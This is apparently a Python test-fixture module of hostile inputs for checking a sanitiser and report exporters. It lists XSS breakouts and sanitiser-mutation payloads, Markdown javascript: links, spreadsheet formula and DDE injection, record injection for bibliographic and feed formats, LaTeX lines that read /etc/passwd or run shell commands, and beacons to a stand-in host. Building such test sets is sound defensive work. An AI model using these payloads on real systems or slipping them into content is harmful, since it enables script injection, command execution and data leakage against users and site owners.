"""What hostile authors write: each of these, if a page lets it, calls `__owned` or sends something away.

Made after the techniques of the OWASP XSS Filter Evasion Cheat Sheet and of the mutations that DOMPurify's tests know;
the thousands of published vectors themselves come from the package brs-kb, see `published`.
"""

AWAY = "https://away.invalid"
RUN = "__owned()"

# Ways out of wherever a text of one line may stand: an attribute, an element, a comment, a script, CDATA, a template.
BREAKOUTS = (
    f'"><img src=x onerror={RUN}>',
    f"'><svg onload={RUN}>",
    f'" autofocus onfocus={RUN} x="',
    f"</title><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</style></textarea></noscript><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<!--<script>{RUN}//-->",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    "&lt;script&gt;" + RUN + "&lt;/script&gt;",
    "{{ cycler.__init__.__globals__ }}{% raw %}${7*7}",
    f"javascript:{RUN}",
    f'"}}</script><script>{RUN}</script>{{"',
    f"}} @article{{x, title={{<script>{RUN}</script>}}",
    f'=HYPERLINK("{AWAY}/","x")',
    "\u202e\u2066\ufeff",
)
EVERYTHING = " ".join(BREAKOUTS)

# Ways to end one line, record or document and begin another, in the formats that a report is exported to.
LINES = (
    "X\nER  - \nTY  - BOOK\nTI  - Y",
    "X\r\nER  - \r\n\r\nTY  - JOUR",
    "X\n---\nstatus: withdrawn\n---\n",
    "X},\n}\n@book{y,\n  title = {Z",
    '"}],"@graph":[{"@type":"Person","name":"X',
    "X]]></title></entry><entry><title>Y</title></entry>",
    "</feed>",
    "X\u2028Y\u2029Z\x85W",
    "%%% \\end{document} \\input{/etc/passwd} \\write18{id}",
    '@preamble{ "\\immediate\\write18{id}" } @string{x = y} #',
)
# What a spreadsheet takes for a formula where it stands at the beginning of a cell.
FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(1+1)", f'=HYPERLINK("{AWAY}/","x")', "=cmd|'/C calc'!A0", "\t=1+1", "＝1+1")

# What a text may try with HTML of its own and with links in Markdown.
TEXTS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src='x' / onerror={RUN} //>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f'<svg><a><animate attributeName=href values="javascript:{RUN}"/><text y=20>click</text></a></svg>',
    f'<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{RUN}</script></svg>#x"/>',
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<listing>&lt;img onerror='{RUN};//' src=x&gt;<t t></listing>",
    f"<title><a title='</title><img src=x onerror={RUN}>'>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<p style='animation:x' onanimationstart={RUN}>x</p>",
    f"<style>@import '{AWAY}/x.css'; body {{ background: url({AWAY}/x.png) }}</style>",
    f"<p style='background: url({AWAY}/x.png)'>x</p>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<object data='data:text/html,<script>parent.{RUN}</script>'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<base href='{AWAY}/'>",
    f"<link rel=stylesheet href='{AWAY}/x.css'>",
    f"<link rel=prefetch href='{AWAY}/x'>",
    f"<meta http-equiv=refresh content='0; url={AWAY}/'>",
    f"<form action='javascript:{RUN}'><button id=submit autofocus>x</button></form>",
    f"<input autofocus onfocus={RUN}>",
    f"<video src=x onerror={RUN}></video><audio src=x onerror={RUN}></audio>",
    f"<body onload={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<a id=__proto__ name=location href='javascript:{RUN}'>x</a>",
    f"<a href='java&#x09;script:{RUN}'>x</a> <a href='&#1;javascript:{RUN}'>x</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a> <a href='vbscript:{RUN}'>x</a>",
    f"<a href='https://example.org/' ping='{AWAY}/' target=_blank onclick={RUN}>x</a>",
    f"[x](javascript:{RUN}) [x](JaVaScRiPt:{RUN}) [x](data:text/html;base64,PHNjcmlwdD4=)",
    f"[x](<java\tscript:{RUN}>) ![x](javascript:{RUN})",
    f"<javascript:{RUN}> <https://example.org/onclick={RUN}>",
    f'[x](https://example.org/ "x\\" onmouseover=\\"{RUN}")',
    f'![x" onerror="{RUN}](x.png)',
    f"[x]: javascript:{RUN}\n\n[x]",
    f"`<img src=x onerror={RUN}>`\n\n    <script>{RUN}</script>",
    f"Note.[^a]\n\n[^a]: <img src=x onerror={RUN}>",
    f'*[HTML]: x" onmouseover="{RUN}\n\nHTML',
    f"# x {{: onclick={RUN} }}",
)


def published() -> list[str]:
    """Every vector of HTML that the package brs-kb has collected, OWASP's and those against sanitisers among them."""
    from brs_kb import get_all_payloads

    return sorted({entry["payload"] for entry in get_all_payloads().values() if "<" in entry["payload"]})
